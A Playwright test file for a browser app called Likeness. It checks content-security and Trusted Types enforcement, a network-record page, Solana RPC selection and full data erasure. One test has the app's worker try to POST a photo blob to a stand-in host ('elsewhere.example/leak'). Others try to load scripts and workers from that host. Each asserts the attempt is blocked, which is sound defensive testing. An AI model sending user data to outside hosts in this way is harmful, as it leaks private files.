import type { Page } from '@playwright/test';

import { tryAmara } from '../pages/avatar-creator.ts';
import { expect, test } from '../support/visit.ts';

test.describe('section 2: the badge and the ledger', () => {
  test('the browser’s own record accounts for the page and the engine’s worker, and shows what isn’t in the ledger', async ({
    page,
    sandbox,
  }) => {
    await tryAmara(page);
    await page.getByRole('contentinfo').getByRole('link', { name: 'Trust & Security' }).click();
    const record = page.getByRole('region', { name: 'Your browser’s own record' });
    const own = record.getByRole('listitem').filter({ hasText: sandbox.appUrl });
    await expect(own).toContainText(/\d+ by the page, \d+ by the engine’s worker/);
    await expect(own).toContainText('The app’s own files');
    await expect(record.getByText('Not in the ledger')).toHaveCount(0);

    await page.evaluate(async (url) => (await fetch(url)).text(), `${sandbox.gateway.url}/v1/info`);
    await expect(
      record.getByRole('listitem').filter({ hasText: sandbox.gateway.url }),
    ).toContainText('Not in the ledger');
  });

  test('text never becomes markup, and no script or worker loads from elsewhere', async ({
    page,
    problems,
  }) => {
    problems.forgive(/Trusted ?(Type|HTML|Script)|violates/);
    await page.goto('/about');
    const tried = await page.evaluate(() => {
      const said = (act: () => void): string => {
        try {
          act();
          return 'done';
        } catch (refused) {
          return (refused as Error).name;
        }
      };
      return {
        markup: said(() => (document.body.innerHTML = '<b>foreign</b>')),
        script: said(
          () => (document.createElement('script').src = 'https://elsewhere.example/a.js'),
        ),
        worker: said(() => new Worker('https://elsewhere.example/a.js')),
        text: said(() => (document.createElement('script').text = 'globalThis.foreign = true')),
        own: said(() => (document.createElement('script').src = '/boot.js')),
      };
    });
    expect(tried).toEqual({
      markup: 'TypeError',
      script: 'TypeError',
      worker: 'TypeError',
      text: 'TypeError',
      own: 'done',
    });
  });

  test('the engine’s worker can’t send anything to a host that the policy doesn’t name', async ({
    page,
    problems,
  }) => {
    problems.forgive(/Content Security Policy|Refused to connect|violates/);
    const reached: string[] = [];
    await page.context().route(/elsewhere\.example/, async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ body: 'taken', headers: { 'access-control-allow-origin': '*' } });
    });
    await tryAmara(page);
    const [worker] = page.workers();
    if (!worker) throw new Error('the engine has no worker');
    const leak = await worker.evaluate(async () => {
      const photo = new Blob([new Uint8Array(1_000)]);
      const tries = [
        fetch('https://elsewhere.example/leak', { method: 'POST', body: photo }),
        fetch('https://elsewhere.example/leak', { method: 'POST', body: photo, mode: 'no-cors' }),
      ];
      return (await Promise.allSettled(tries)).map(({ status }) => status);
    });
    expect(leak).toEqual(['rejected', 'rejected']);
    expect(reached).toEqual([]);
  });
});

/**
 * Serves the app like a build with a second RPC: the same sandbox under this machine's other name.
 */
async function withSecondRpc(page: Page, first: string): Promise<string> {
  const second = first.replace('127.0.0.1', 'localhost');
  await page.route(/\/(dashboard|$)/, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const body = (await response.text()).replace(
      `&#34;solanaRpc&#34;:[&#34;${first}&#34;]`,
      `&#34;solanaRpc&#34;:[&#34;${first}&#34;,&#34;${second}&#34;]`,
    );
    await route.fulfill({
      response,
      body,
      headers: {
        ...headers,
        'content-security-policy': (headers['content-security-policy'] ?? '').replace(
          first,
          `${first} ${second}`,
        ),
      },
    });
  });
  return second;
}

test.describe('section 2: settings', () => {
  test('an RPC of the build can be chosen: its chain is tested, it is asked first from then on, and one of another chain is refused', async ({
    page,
    sandbox,
  }) => {
    const second = await withSecondRpc(page, sandbox.rpcUrl);
    const host = new URL(second).host;
    const asked: string[] = [];
    page.on('request', (request) => {
      if (request.method() === 'POST') asked.push(new URL(request.url()).host);
    });
    await page.goto('/dashboard?tab=settings');
    const form = page.getByRole('form', { name: 'Solana RPC' });
    await form.getByLabel('RPC to ask first').selectOption(host);
    await page.route(`${second}/**`, (route) =>
      route.fulfill({
        contentType: 'application/json',
        headers: { 'access-control-allow-origin': '*' },
        body: '{"jsonrpc":"2.0","id":1,"result":"5eykt4UsFv8P8NJdTREpY1vzqKqZKvdpKuc147dw2N9d"}',
      }),
    );
    await form.getByRole('button', { name: 'Test' }).click();
    await expect(form.getByText(`${host} answers for Solana Mainnet`)).toBeVisible();
    await form.getByRole('button', { name: 'Use it' }).click();
    await expect(
      form.getByText('This address serves a different chain from this app’s.'),
    ).toContainText('It is Solana Mainnet.');

    await page.unroute(`${second}/**`);
    await form.getByRole('button', { name: 'Test' }).click();
    await expect(form.getByText(`${host} answers for the Solana Sandbox`)).toBeVisible();
    const anew = page.waitForEvent('load');
    await form.getByRole('button', { name: 'Use it' }).click();
    await anew;
    await expect(form.getByLabel('RPC to ask first')).toHaveValue(second);
    asked.length = 0;
    await page.reload();
    await expect.poll(() => asked).toContain(host);
    expect(asked).not.toContain(new URL(sandbox.rpcUrl).host);
  });

  test('everything can be erased: nothing remains on this device', async ({ page }) => {
    await tryAmara(page);
    await page.goto('/dashboard?tab=settings');
    await expect(page.getByRole('button', { name: 'Delete photo now' })).toBeVisible();
    await page.getByRole('button', { name: 'Erase everything' }).click();
    const dialog = page.getByRole('dialog', { name: 'Erase all Likeness data on this device?' });
    await expect(dialog.getByRole('button', { name: 'Erase everything' })).toBeDisabled();
    await dialog.getByLabel('I have saved what I want to keep').check();
    await dialog.getByRole('button', { name: 'Erase everything' }).click();
    await expect(page).toHaveURL('/');
    await page.goto('/about');
    await expect
      .poll(() => page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name)))
      .toEqual([]);
    // The entries of a first visit: that there is no photo, the scroll position, and that it
    // started.
    const left = await page.evaluate(() =>
      Object.fromEntries(
        [localStorage, sessionStorage].flatMap((area) =>
          Object.keys(area).map((key) => [key, area.getItem(key)]),
        ),
      ),
    );
    expect(
      Object.keys(left).filter(
        (key) => !['likeness.draft', 'likeness.log', 'likeness.scroll'].includes(key),
      ),
    ).toEqual([]);
    const log = JSON.parse(left['likeness.log'] ?? '[]') as readonly { readonly place: string }[];
    expect(log.filter(({ place }) => place !== 'app.run')).toEqual([]);
    expect(left['likeness.draft'] ?? 'null').toBe('null');
  });
});
